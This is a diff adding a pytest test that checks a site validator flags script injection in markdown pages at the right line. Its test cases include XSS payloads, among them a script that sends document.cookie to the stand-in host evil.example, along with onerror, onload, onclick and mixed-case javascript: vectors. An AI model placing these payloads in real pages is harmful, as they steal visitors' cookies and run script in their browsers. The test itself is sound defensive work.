@@ -644,3 +644,31 @@ def test_the_audit_names_a_file_it_cannot_read_whole(make_root, tmp_path):
     leaks = audit_site(load(make_root.path), 0, site)
     assert [leak.as_text() for leak in leaks] == [
         "tier0/data/export.json.gz: cannot be searched for leaks whole (more than 64 MiB of text)"]
+
+
+@pytest.mark.parametrize("line, found", [
+    ("<script>fetch('https://evil.example/?' + document.cookie)</script>", "<script"),
+    ('<img src="x.png" onerror="alert(1)">', "onerror"),
+    ("Open [the form](javascript:alert(1)).", "javascript:"),
+    ('<a href=" JaVaScRiPt:alert(1)">form</a>', "javascript:"),
+    ('A paragraph.\n{: onclick="alert(1)" }', "onclick"),
+    ("<svg onload=alert(1)></svg>", "onload"),
+    ("```html\n<script>alert(1)</script>\n```", None),
+    ("Use `onclick=` and `<script>` in your own page.", None),
+    ("<!-- <script>alert(1)</script> -->", None),
+    ('<ClientLocationInfo OnInternet="true" />', None),  # no event of a browser's
+    ("javascript: the language of the web, and vbscript: an old one.", None),
+])
+def test_a_script_in_a_page_is_a_warning_at_its_line(make_root, line, found):
+    """The page's render decides: code is text there, a comment is not shown, and only a browser's own
+    events run."""
+    make_root.doc("kb/a.md", f"# Page\n\nPublic words.\n\n{line}\n")
+    content = load(make_root.path)
+    findings = [(f.line, f.rule, f.message) for f in validate(content) if f.rule == "html-script"]
+    if found is None:
+        assert findings == []
+    else:
+        at = content.by_rel()["kb/a.md"].body_line + 4 + next(
+            index for index, written in enumerate(line.split("\n")) if found in written.lower())
+        assert [(where, rule) for where, rule, _ in findings] == [(at, "html-script")]
+        assert f"('{found}')" in findings[0][2] and "overrides/" in findings[0][2]
